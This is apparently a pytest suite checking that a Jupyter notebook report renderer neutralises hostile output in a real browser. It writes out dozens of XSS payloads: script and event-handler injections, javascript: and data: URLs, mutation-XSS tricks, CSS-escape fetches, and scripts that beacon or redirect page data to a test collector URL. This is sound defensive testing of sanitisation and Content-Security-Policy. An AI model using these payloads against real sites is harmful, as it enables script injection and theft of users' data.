# ruff: noqa: E501 - each attack stands on one line
"""Hostile notebooks in a real browser: nothing runs, nothing is fetched, nothing is covered."""

from collections.abc import Callable
from pathlib import Path

import pytest

from jupyter_ext.reports import csp
from jupyter_ext.reports.frame import framed
from jupyter_ext.reports.service import ReportRenderer

from .conftest import Browser, code, display, markdown

# each tries to write PWNED into the document, or to reach the collector at {url}
ATTACKS = [
    "<script>document.title='PWNED1'</script>",
    "<script src='{url}/script.js'></script>",
    "<img src=x onerror=\"document.title='PWNED2'\">",
    "<img src='{url}/pixel.png'>",
    "<svg onload=\"document.title='PWNED3'\"><script>document.title='PWNED4'</script></svg>",
    "<svg><style><img src=x onerror=\"document.title='PWNED5'\"></style></svg>",
    "<svg><image href='{url}/svg.png'/><use href='{url}/use.svg#x'/></svg>",
    "<iframe src=\"javascript:parent.document.title='PWNED6'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='PWNED7'</script><img src='{url}/f'>\"></iframe>",
    "<iframe src='{url}/frame'></iframe><embed src='{url}/embed'><object data='{url}/object'></object>",
    "<iframe src=\"data:text/html,<script>parent.document.title='PWNED8'</script>\"></iframe>",
    "<meta http-equiv=refresh content='0;url={url}/refresh'>",
    "<base href='{url}/'><link rel=stylesheet href='{url}/style.css'>",
    "<link rel=preconnect href='{url}'><link rel=dns-prefetch href='{url}'>",
    "<link rel=prefetch href='{url}/prefetch'><link rel=icon href='{url}/icon.png'>",
    "<style>@import url({url}/import.css); body {{ background: url({url}/background.png) }}</style>",
    "<style>@font-face {{ font-family: f; src: url({url}/font.woff) }} * {{ font-family: f }}</style>",
    "<style>header, .jx-head, main {{ display: none !important }}</style>",
    "<div style=\"background-image: url('{url}/inline.png')\">x</div>",
    "<div style=\"background: u\\72l('{url}/escaped.png')\">x</div>",
    "<form action='{url}/form'><input name=a autofocus onfocus=\"document.title='PWNED9'\"></form>",
    "<video src='{url}/video.mp4' autoplay poster='{url}/poster.png'></video><audio src='{url}/a.mp3'>",
    "<table background='{url}/table.png'><tr><td>x</table>",
    "<a href=\"javascript:document.title='PWNED10'\" id=link>press</a>",
    "<a href='{url}/ping' ping='{url}/ping'>ping</a>",
    "<details open ontoggle=\"document.title='PWNED11'\">x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='PWNED12'\">",
    "<noscript><p title='</noscript><img src=x onerror=\"document.title=PWNED13\">'></noscript>",
    "</div></div></section></main><header class=jx-head><h1>PWNED14</h1></header>",
    "<xmp><img src=x onerror=\"document.title='PWNED15'\"></xmp><plaintext>",
]
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'PWNED16\'">'
    "<script>parent.document.title='PWNED17'</script><image href='{url}/from-svg.png'/>"
    "<foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='{url}/foreign.png'/>"
    "</foreignObject><circle r='5'/></svg>"
)
MARKDOWN = """# Title <img src=x onerror="document.title='PWNED20'">

[link](javascript:document.title='PWNED21') ![remote]({url}/markdown.png) [ref]

[ref]: data:text/html,<script>document.title='PWNED22'</script>

$\\href{{javascript:document.title='PWNED23'}}{{x}}$ $\\text{{<img src=x onerror="document.title='PWNED24'">}}$
![$\\text{{" onerror="document.title='PWNED25'}}$](x)

```mermaid
graph TD; A["<img src=x onerror=document.title='PWNED26'>"] --> B; click A "javascript:alert(1)"
```
"""


@pytest.fixture(scope="module")
def hostile(browser: Browser) -> list[dict]:  # type: ignore[type-arg]
    url = browser.collector_url
    cells = [code("", display(text_html=attack.format(url=url))) for attack in ATTACKS]
    cells += [markdown(attack.format(url=url)) for attack in ATTACKS]
    cells += [
        markdown(MARKDOWN.format(url=url)),
        code("", display(**{"image/svg+xml": SVG.format(url=url)})),
        code("", display(**{"application/javascript": "document.title='PWNED30'"})),
        code(
            "",
            display(
                **{"text/vnd.mermaid": "graph TD; A[<script>document.title='PWNED31'</script>]"}
            ),
        ),
        code("", display(text_markdown="<script>document.title='PWNED32'</script>")),
        code("", display(text_latex="$$\\text{<script>document.title='PWNED33'</script>}$$")),
        code("", display(**{"image/png": "\"><script>document.title='PWNED34'</script>"})),
        code("", display(**{"text/<script>": "<script>document.title='PWNED35'</script>"})),
        code(
            "",
            display(
                **{
                    "application/vnd.vegalite.v5+json": {
                        "usermeta": {"embedOptions": {"loader": "x"}},
                        "data": {"url": f"{url}/vega.csv"},
                        "mark": {"type": "image", "url": f"{url}/vega.png"},
                    }
                }
            ),
        ),
        markdown("<b>the end</b>"),
    ]
    return cells


def test_no_attack_runs_or_fetches_in_the_default_report(
    browser: Browser,
    hostile: list[dict],
    written: Callable[..., Path],
    renderer: ReportRenderer,  # type: ignore[type-arg]
) -> None:
    facts = {"specification": "<script>document.title='PWNED40'</script>", "state": "SUCCEEDED"}
    page = renderer.html(written(*hostile), facts=facts)

    dom = browser.dom(page.read_bytes(), csp.static_headers())

    assert "<title>&lt;script&gt;" in dom
    assert "the end" in dom
    assert browser.connections == []


def test_the_page_alone_holds_without_the_headers(
    browser: Browser,
    hostile: list[dict],
    written: Callable[..., Path],
    renderer: ReportRenderer,  # type: ignore[type-arg]
) -> None:
    """A report saved to disk has no headers: what was written and its own policy must do."""
    page = renderer.html(written(*hostile), title="saved").read_text("utf-8")

    without_policy = page.replace('http-equiv="Content-Security-Policy"', "data-none", 1)
    for version in (page, without_policy):
        dom = browser.dom(version, {})
        assert "<title>saved</title>" in dom
        assert "the end" in dom
        assert browser.connections == []


def test_the_policy_in_a_saved_page_holds_for_whatever_is_put_into_it(
    browser: Browser, written: Callable[..., Path], renderer: ReportRenderer
) -> None:
    page = renderer.html(written(markdown("x")), title="saved").read_text("utf-8")
    url = browser.collector_url
    fetching = "".join(attack.format(url=url) for attack in ATTACKS if "refresh" not in attack)

    dom = browser.dom(page.replace("</body>", fetching + "</body>"), {})

    assert "<title>saved</title>" in dom
    assert [each for each in browser.connections if each != "a bare connection"] == []


def test_the_headers_alone_hold_whatever_the_page_says(browser: Browser) -> None:
    """The first line: even raw hostile HTML neither runs nor loads under the policy."""
    url = browser.collector_url
    raw = "".join(attack.format(url=url) for attack in ATTACKS)
    page = f"<!DOCTYPE html><title>raw</title>{raw}"

    dom = browser.dom(page, csp.static_headers())

    assert "<title>raw</title>" in dom
    # an address that is only prepared (preconnect) is no fetch to the policy: nothing is sent, but
    # this is why pages are written anew as well
    assert [each for each in browser.connections if each != "a bare connection"] == []


def test_the_attacks_would_work_without_any_cage(browser: Browser) -> None:
    """Shows that the tests above can fail."""
    url = browser.collector_url
    for i in (0, 2, 4):
        dom = browser.dom(f"<!DOCTYPE html><title>raw</title>{ATTACKS[i].format(url=url)}", {})
        assert "<title>PWNED" in dom
    browser.dom(f"<!DOCTYPE html>{ATTACKS[3].format(url=url)}", {})
    assert browser.connections == ["GET /pixel.png HTTP/1.1"]


def test_an_output_cannot_hide_or_imitate_the_facts(
    browser: Browser, written: Callable[..., Path], renderer: ReportRenderer
) -> None:
    attack = (
        "<style>header{display:none} body{display:none} html, :root{visibility:hidden}"
        " body:has(*) .jx-head{display:none}</style>"
        "</div></div></section></main><header class='jx-head' id='jx-out-1'>fake</header>"
    )
    cover = "<div style='position:fixed;inset:0;z-index:9;background:red'>covered</div>"
    page = renderer.html(
        written(code("", display(text_html=attack), display(text_html=cover)), markdown(cover)),
        facts={"specification": "real", "state": "FAILED"},
    )
    probe = (
        "<script>addEventListener('load', () => {"
        "const h = document.querySelector('h1'), box = h.getBoundingClientRect();"
        "const top = document.elementFromPoint(box.left + 5, box.top + box.height / 2);"
        "document.title = [getComputedStyle(h.parentElement).display,"
        " getComputedStyle(document.documentElement).visibility, top === h,"
        " document.querySelectorAll('.jx-head').length].join(' ')})</script></body>"
    )
    html = page.read_text("utf-8").replace('http-equiv="Content-Security-Policy"', "data-none", 1)

    dom = browser.dom(html.replace("</body>", probe), {})

    assert "<title>block visible true 1</title>" in dom


def test_the_interactive_report_runs_scripts_but_reaches_nothing(
    browser: Browser, written: Callable[..., Path], renderer: ReportRenderer
) -> None:
    url = browser.collector_url
    script = (
        (
            "<div id=chart>empty</div><script>document.getElementById('chart').textContent = 'drawn';"
            f"fetch('{url}/fetch'); new Image().src = '{url}/image';"
            "try {{ localStorage.x = 1; document.title = 'stored' }} catch (e) {{}}"
            f"navigator.sendBeacon('{url}/beacon'); try {{ new WebSocket('ws' + '{url}'.slice(4)) }} catch (e) {{}}"
            "try {{ parent.document.title = eval('1') }} catch (e) {{}}</script>"
            f"<script src='{url}/remote.js'></script>"
        )
        .replace("{{", "{")
        .replace("}}", "}")
    )
    path = written(
        code("", display(text_html=script)), markdown("<script>document.title='md'</script>")
    )

    page = renderer.html(path, interactive=True, title="interactive")
    dom = browser.dom(page.read_bytes(), csp.interactive_headers())

    assert '<div id="chart">drawn</div>' in dom
    assert "<title>interactive</title>" in dom
    assert "isn’t loaded from" in dom
    assert browser.connections == []


def test_a_script_of_the_interactive_report_cannot_leave_with_what_it_read(
    browser: Browser, written: Callable[..., Path], renderer: ReportRenderer
) -> None:
    url = browser.collector_url
    leave = f"<script>location = '{url}/leave?' + document.title</script>"
    page = renderer.html(written(code("", display(text_html=leave))), interactive=True)
    bare = page.read_bytes()
    whole = b"".join(framed([bare[:1000], bare[1000:]], 'A "report" & more'))

    dom = browser.dom(whole, csp.interactive_headers())

    assert '<title>A "report" &amp; more</title>' in dom
    # a connection is prepared before the policy is asked; nothing is sent on it
    assert [each for each in browser.connections if each != "a bare connection"] == []
    browser.dom(bare, csp.interactive_headers())
    assert "GET /leave?analysis HTTP/1.1" in browser.connections  # without the frame


def test_formulas_and_pictures_are_there_with_the_network_off(
    browser: Browser, written: Callable[..., Path], renderer: ReportRenderer
) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="9" height="9"/></svg>'
    path = written(markdown("$x^2$"), code("", display(**{"image/svg+xml": svg})))
    page = renderer.html(path).read_text("utf-8")
    probe = (
        "<script>addEventListener('load', () => { const i = document.images[0];"
        "document.title = [i.naturalWidth, document.querySelector('msup').getBoundingClientRect().width > 4]"
        ".join(' ')})</script></body>"
    )
    html = page.replace('http-equiv="Content-Security-Policy"', "data-none", 1)

    dom = browser.dom(html.replace("</body>", probe), {})

    assert "<title>40 true</title>" in dom


VEGA = {
    "data": {"values": [{"a": "</script><script>document.title='PWNED'</script>", "b": 3}] * 3},
    "mark": "bar",
    "encoding": {
        "x": {"field": "a", "type": "nominal"},
        "y": {"aggregate": "sum", "field": "b", "type": "quantitative"},
        "tooltip": {"value": {"expr": "datum.b + 1"}},
    },
}
RECTANGLE = {
    "width": 20,
    "height": 20,
    "marks": [
        {
            "type": "rect",
            "encode": {
                "enter": {
                    "fill": {"signal": "'red'"},
                    "width": {"value": 9},
                    "height": {"value": 9},
                }
            },
        }
    ],
}


def test_the_interactive_report_draws_vega_without_eval(
    browser: Browser, written: Callable[..., Path], renderer: ReportRenderer
) -> None:
    url = browser.collector_url
    remote = {"data": {"url": f"{url}/data.csv"}, "mark": {"type": "image", "url": f"{url}/a.png"}}
    path = written(
        code("", display(**{"application/vnd.vegalite.v5+json": VEGA})),
        code("", display(**{"application/vnd.vegalite.v6+json": remote})),
        code("", display(**{"application/vnd.vega.v5+json": RECTANGLE})),
        code("", display(**{"application/vnd.vegalite.v5+json": {"mark": 7}})),
    )

    page = renderer.html(path, interactive=True, title="charts")
    dom = browser.dom(page.read_bytes(), csp.interactive_headers())

    assert dom.count("<svg") == 3
    assert 'fill="red"' in dom
    assert 'aria-roledescription="bar"' in dom
    assert "This chart can't be drawn" in dom
    assert "<title>charts</title>" in dom
    assert browser.connections == []


def test_only_an_interactive_report_with_a_chart_holds_the_drawing_program(
    written: Callable[..., Path], renderer: ReportRenderer
) -> None:
    chart = written(code("", display(**{"application/vnd.vegalite.v5+json": VEGA})))
    assert renderer.html(chart, interactive=True).stat().st_size > 500_000
    assert renderer.html(chart).stat().st_size < 50_000
    plain = written(markdown("x"))
    assert renderer.html(plain, interactive=True).stat().st_size < 50_000
